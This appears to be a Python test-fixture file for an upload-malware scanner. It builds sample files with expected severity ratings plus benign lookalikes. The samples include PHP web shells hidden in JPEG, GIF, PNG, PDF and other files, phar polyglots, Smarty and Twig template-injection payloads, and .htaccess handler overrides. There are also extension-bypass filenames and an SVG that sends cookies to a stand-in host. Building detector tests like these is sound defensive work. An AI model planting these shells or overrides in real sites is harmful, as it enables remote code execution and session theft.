    "comment_trick": ('<!--[if IE]><script src="https://cdn.invalid/a.js"></script><![endif]-->'
                      '<script src="https://cdn.invalid/b.js"></script>', "script"),
    "tag_manager": ("<script>%s</script>" % JS["tag_manager"][0], "script"),
}
# Template languages that run PHP when they are compiled.
TEMPLATE = {
    ".tpl": {"smarty_php": ("{php}eval($_POST['c']);{/php}", "."),
             "smarty_call": ("{$smarty.get.c|system}", "."),
             "smarty_if": ("{if system('id')}{/if}", "."),
             "smarty_fetch": ('{fetch file="http://cdn.invalid/x"}', ".")},
    ".twig": {"twig_filter": ("{{ ['id']|map('system')|join }}", "."),
              "twig_env": ("{{ _self.env.registerUndefinedFilterCallback('exec') }}", ".")},
}

SHELL = "<?php @system($_GET['c']); ?>"
CELL = b"<?=`$_GET[0]`?>"


def jpeg(app1=b"", comment=b"", tail=b""):
    out = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    for mark, text in ((b"\xff\xe1", app1), (b"\xff\xfe", comment)):
        if text:
            out += mark + struct.pack(">H", len(text) + 2) + text
    return out + b"\xff\xda\0\x08\1\1\0\0?\0" + bytes([7, 9, 11] * 40) + b"\xff\xd9" + tail


WEBP = b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8 \x10\0\0\0" + b"x" * 18
BMP = (b"BM" + struct.pack("<IHHI", 70, 0, 0, 54) +
       struct.pack("<IiiHHIIiiII", 40, 2, 2, 1, 24, 0, 16, 0, 0, 0, 0) + b"\0" * 16)
ICO = b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 1, 1, 0, 0, 1, 32, 40, 22) + b"\0" * 40
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"%s</svg>'
NUMBERS = ("4111111111111111", "5555555555554444", "3530111333300000", "4012888888881881")

UPLOADS = {
    # Pictures that are programs as well.
    "comment.jpg": (jpeg(comment=SHELL.encode()), "high"),
    "comment_short.jpg": (jpeg(comment=CELL), "high"),
    "exif.jpg": (jpeg(app1=b"Exif\0\0" + SHELL.encode()), "high"),
    "end_short.jpg": (jpeg(tail=b"<?=`$_GET[0]`;"), "high"),
    "short_open.gif": (acts.GIF + b"<? system($_GET['c']); ?>", "high"),
    "a.webp": (WEBP + SHELL.encode(), "high"),
    "a.bmp": (BMP + SHELL.encode(), "high"),
    "a.ico": (ICO + SHELL.encode(), "high"),
    "text.png": (acts.png()[:-12] + acts.chunk(b"zTXt", b"c\0\0" + SHELL.encode()) +
                 acts.chunk(b"IEND", b""), "high"),
    "script_tag.jpg": (acts.GIF + b"<script language=\"php\">eval($_POST['c']);</script>", "high"),
    "phar.jpg": (b"\xff\xd8\xff\xe0" + b"\0" * 30 + b"<?php __HALT_COMPILER(); ?>\r\n", "high"),
    "phar.gif": (acts.GIF + b"__HALT_COMPILER(); ?>\r\n\x10\0\0\0", "high"),
    "phar_alone.jpg": ("<?php __HALT_COMPILER(); ?>\r\nxx", "high"),
    "gif.php": ("GIF89a<?php echo 1;", "high"),
    # Vector pictures and pages.
    "load.svg": (SVG % " onload=\"fetch('https://cdn.invalid/'+document.cookie)\">", "low"),
    "link.svg": (SVG % '><a xlink:href="javascript:alert(1)"><text>x</text></a>', "low"),
    "frame.svg": (SVG % '><foreignObject><iframe srcdoc="&lt;script src=https://cdn.invalid/a.js&gt;"'
                  "/></foreignObject>", "low"),
    "script.svg": (SVG % '><script xlink:href="https://cdn.invalid/a.js"/>', "low"),
    "page.html": ("<html>" + SHELL + "</html>", "high"),
    "loader.js": ("var a=1;document.write('<script src=\"https://cdn.invalid/a.js\"></scr'+'ipt>');",
                  "low"),
    # Settings of the web server.
    "append/.htaccess": ('php_value auto_append_file "photo.jpg"\n', "high"),
    "files/.htaccess": ('<Files "a.jpg">\nSetHandler application/x-httpd-php\n</Files>\n', "high"),
    "handler/.htaccess": ("AddHandler php8-script .jpg\n", "high"),
    "force/.htaccess": ("ForceType application/x-httpd-php\n", "high"),
    "lines/.htaccess": ("SetHa\\\nndler application/x-httpd-php\n", "high"),
    "includes/.htaccess": ("Options +Includes\nAddOutputFilter INCLUDES .shtml\n", "high"),
    "self/.htaccess": ("<Files ~ \"^.ht\">\nAllow from all\n</Files>\nAddType application/x-httpd-php "
                       ".htaccess\n# " + SHELL, "high"),
    "fpm/.htaccess": ("<FilesMatch \\.jpg$>\nSetHandler \"proxy:unix:/run/php/php-fpm.sock|fcgi://"
                      "localhost\"\n</FilesMatch>\n", "high"),
    "ini/.user.ini": ("; x\n  Auto_Append_File = a\n", "high"),
    "include/.user.ini": ("allow_url_include=On\n", "high"),
    # Names.
    "x.php.": (SHELL, "high"), "x.php::$DATA": (SHELL, "high"), "x.php;.jpg": (SHELL, "high"),
    "x.php%00.jpg": (SHELL, "high"), "x.php ": (SHELL, "high"), "x.pht": (SHELL, "high"),
    "x.phps": (SHELL, "high"), "x.php~": (SHELL, "high"), "x.php.bak": (SHELL, "high"),
    "x.php.xyz": (SHELL, "high"), "X.PHP": (SHELL, "high"), ".x.php": (SHELL, "high"),
    "...": (SHELL, "high"), "no_end": (SHELL, "high"), "l" + "o" * 200 + "ng.php": (SHELL, "high"),
    # Other kinds of content.
    "settings.ini": ("[x]\n" + SHELL, "high"), "a.json": ('{"a":"' + SHELL + '"}', "high"),
    "a.csv": ("id," + SHELL, "high"), "a.css": ("/* " + SHELL + " */", "high"),
    "a.pdf": (acts.PDF + SHELL.encode(), "high"),
    "a.doc": (b"\xd0\xcf\x11\xe0" + b"\0" * 200 + SHELL.encode(), "high"),
    "a.tpl": ("{php}eval($_POST['c']);{/php}", "high"),
    "mark.php": (b"\xef\xbb\xbf" + SHELL.encode(), "high"),
    "nul.php": (b"\0\0" + SHELL.encode(), "high"),
    "wide.php": (SHELL.encode("utf-16"), "medium"),
    "asp_tags.php": ("<% eval($_POST[1]) %>", "medium"),
    "exec.shtml": ('<!--#exec cmd="id" -->', "medium"),
    "a.pl": ("#!/usr/bin/perl\nprint `id`;", "medium"),
    "a.cgi": ("#!/bin/sh\nid", "medium"), "a.jsp": ("<% exec(x); %>", "medium"),
    # What was taken.
    "cards.jpg": (acts.GIF + acts.CARDS.encode(), "high"),
    "cards_spaced.txt": ("\n".join("%s %s %s %s" % (n[:4], n[4:8], n[8:12], n[12:])
                                   for n in NUMBERS), "high"),
    "cards_json.jpg": ("\n".join(json.dumps({"n": "-".join((n[:4], n[4:8], n[8:12], n[12:]))})
                                 for n in NUMBERS), "high"),
    "cards_base64.jpg": ("\n".join(base64.b64encode((n + "|12/27|123").encode()).decode()
                                   for n in NUMBERS), "high"),
}
# Honest files that look a little like the above.
QUIET_UPLOADS = {
    "noise.jpg": jpeg(comment=b"<?=" + bytes(range(128, 160)) * 9),
    "packet.jpg": jpeg(app1=b"http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTcz'?>"),
    "orders.csv": "id,tracking\n20240001,123456789012\n20240002,400000000000\n",
    "picture.svg": SVG % ' viewBox="0 0 9 9"><a xlink:href="https://shop.invalid/"><path d="M1 1"/></a>',
    "packed.gz": gzip.compress(SHELL.encode()),
    "phones.txt": "0120-123-456 0312-3456-7890\n2024-1001-2002-3003\n",
}
